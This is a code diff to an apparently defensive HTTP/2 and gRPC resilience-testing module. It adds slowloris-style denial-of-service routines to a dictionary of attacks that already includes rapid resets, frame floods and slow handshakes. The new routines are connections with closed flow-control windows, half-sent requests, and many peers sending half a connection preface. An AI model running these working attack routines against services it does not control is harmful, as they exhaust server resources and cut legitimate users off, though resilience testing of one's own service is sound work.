@@ -33,6 +33,8 @@ PEERS = 100
 WIDE = 2**31 - 1
 """The largest window (RFC 9113, section 6.9.1): nothing but the service bounds what it sends."""
 RECEIVE_BYTES = 256 * 1024
+HALF_BYTES = 10_000
+"""All calls of a connection send together what its window allows."""
 RUN, STREAM = b"/sweetspot.v1.Workload/Run", b"/grpc.testing.TestService/StreamingOutputCall"
 NICENESS = 10
 """A real attacker has a processor of its own; this one takes what the service and its client leave."""
@@ -44,6 +46,9 @@ WIDE_OPENING = (
     + frames.window_update(0, WIDE - 65_535)
 )
 SETTINGS_ACK = frames.frame(frames.SETTINGS, frames.ACK)
+CLOSED_OPENING = (
+    frames.PREFACE + frames.frame(frames.SETTINGS, payload=struct.pack(">HI", 4, 0)) + SETTINGS_ACK
+)  # no stream has a window, and none is ever opened
 
 
 def calls(path: bytes, message: bytes, *, packed: bool = True) -> bytes:
@@ -52,6 +57,15 @@ def calls(path: bytes, message: bytes, *, packed: bool = True) -> bytes:
     body = frames.message(gzip.compress(message) if packed else message, flag=int(packed))
     return b"".join(
         frames.headers(stream_id, fields) + frames.data(stream_id, body, end_stream=True)
+        for stream_id in range(1, 2 * STREAMS, 2)
+    )
+
+
+def halves(path: bytes, message: bytes) -> bytes:
+    """As many calls as a connection may have at once, each with the first part of that message."""
+    body = frames.message(message)[:HALF_BYTES]
+    return b"".join(
+        frames.headers(stream_id, frames.request_to(path)) + frames.data(stream_id, body)
         for stream_id in range(1, 2 * STREAMS, 2)
     )
 
@@ -94,6 +108,13 @@ def read_all(request: bytes, sock: socket.socket) -> None:
         pass
 
 
+def open_no_window(request: bytes, sock: socket.socket) -> None:
+    """Reads all bytes, and makes no room for an answer."""
+    sock.sendall(CLOSED_OPENING + request)
+    while sock.recv(RECEIVE_BYTES):
+        pass
+
+
 def read_nothing(request: bytes, sock: socket.socket) -> None:
     """Reads none of the answers, for as long as it lives."""
     sock.sendall(WIDE_OPENING + request)
@@ -116,6 +137,14 @@ def idle(address: str) -> None:
     peers = [connect(address) for _ in range(PEERS)]
     for sock in peers:
         sock.sendall(OPENING)
+    time.sleep(LIFETIME_S)
+
+
+def open_nothing(address: str) -> None:
+    """Many connections that send half of the preface."""
+    peers = [connect(address) for _ in range(PEERS)]
+    for sock in peers:
+        sock.sendall(frames.PREFACE[:10])
     time.sleep(LIFETIME_S)
 
 
@@ -186,6 +215,7 @@ def floods(names: tuple[str, ...], address: str) -> None:
 
 
 IDLE_CONNECTIONS = "idle connections"
+HALF_PREFACES = "halves of prefaces"
 SLOW_HANDSHAKES = "handshakes byte by byte"
 """Of a service behind TLS."""
 ATTACKS: dict[str, Callable[[str], None]] = {
@@ -193,8 +223,12 @@ ATTACKS: dict[str, Callable[[str], None]] = {
     "unknown fields that unpack to much": partial(again, attack=partial(read_nothing, calls(RUN, LARGE_UNKNOWN))),
     "replies that are not read": partial(again, attack=partial(read_nothing, calls(RUN, LARGE_ECHO))),
     "streams that are not read": partial(again, attack=partial(read_nothing, calls(STREAM, LARGE_STREAM))),
+    "windows that stay closed": partial(again, attack=partial(open_no_window, calls(RUN, LARGE_ECHO))),
+    "streams whose windows stay closed": partial(again, attack=partial(open_no_window, calls(STREAM, LARGE_STREAM))),
+    "halves of requests": partial(again, attack=partial(open_no_window, halves(RUN, LARGE_ECHO))),
     "requests byte by byte": dribble,
     IDLE_CONNECTIONS: idle,
+    HALF_PREFACES: open_nothing,
     SLOW_HANDSHAKES: shake_hands_slowly,
     "rapid resets": partial(floods, ("resets",)),
     "frames that ask for an answer": partial(floods, ("settings", "pings", "continuations")),
@@ -202,7 +236,7 @@ ATTACKS: dict[str, Callable[[str], None]] = {
         floods, ("acknowledged pings", "acknowledged settings", "window updates", "empty data")
     ),
 }
-MANY_PEERS = ("requests byte by byte", IDLE_CONNECTIONS, SLOW_HANDSHAKES)
+MANY_PEERS = ("requests byte by byte", IDLE_CONNECTIONS, HALF_PREFACES, SLOW_HANDSHAKES)
 """Those with PEERS connections."""
 
 
